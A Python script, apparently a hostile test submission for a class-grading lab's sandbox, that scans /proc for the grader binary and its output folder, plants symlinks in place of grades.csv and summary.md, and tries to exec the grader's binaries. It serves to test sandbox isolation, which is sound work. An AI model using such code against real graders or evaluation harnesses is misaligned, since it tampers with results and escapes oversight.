"""A hostile submission: it tries to reach what belongs to the grader.

It reads every process's command line and executable link it can see in
/proc, looking for the lab binary (the grader, its sandbox launcher, the
calibration's copy of the reference server) and for the grader's --out
folder. It plants links named like the gradebook in every results folder it
learns of, then tries to run "serve reader" from every lab binary it found.
When none can be run, it says so on stderr and exits with status 3.
"""
import glob
import os
import sys

candidates = []
results = []
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(cmdline, "rb") as f:
            args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        continue
    if not args:
        continue
    if "grade-class" in args or os.path.basename(args[0]) == "lab":
        candidates.append(args[0])
    for i, a in enumerate(args):
        if a in ("--out", "-out") and i + 1 < len(args):
            results.append(args[i + 1])
        elif a.startswith("--out=") or a.startswith("-out="):
            results.append(a.split("=", 1)[1])
for exe in glob.glob("/proc/[0-9]*/exe"):
    try:
        target = os.readlink(exe)
    except OSError:
        continue
    if os.path.basename(target) == "lab":
        candidates.append(target)
candidates += glob.glob("/tmp/mcplab-class-*/reference/*")

for d in results:
    try:
        os.makedirs(os.path.join(d, "students"), exist_ok=True)
    except OSError:
        pass
    for name in ("grades.csv", "summary.md", "students/hostile-proc"):
        try:
            os.symlink("/tmp/hostile-proc-pwned", os.path.join(d, name))
        except OSError:
            pass

sys.stderr.write("hostile-proc: %d lab binaries seen, %d results folders seen\n" % (len(set(candidates)), len(set(results))))
sys.stderr.flush()
for exe in sorted(set(candidates)):
    try:
        os.execv(exe, [exe, "serve", "reader"])
    except OSError:
        pass
sys.stderr.write("hostile-proc: no lab binary could be run\n")
sys.exit(3)
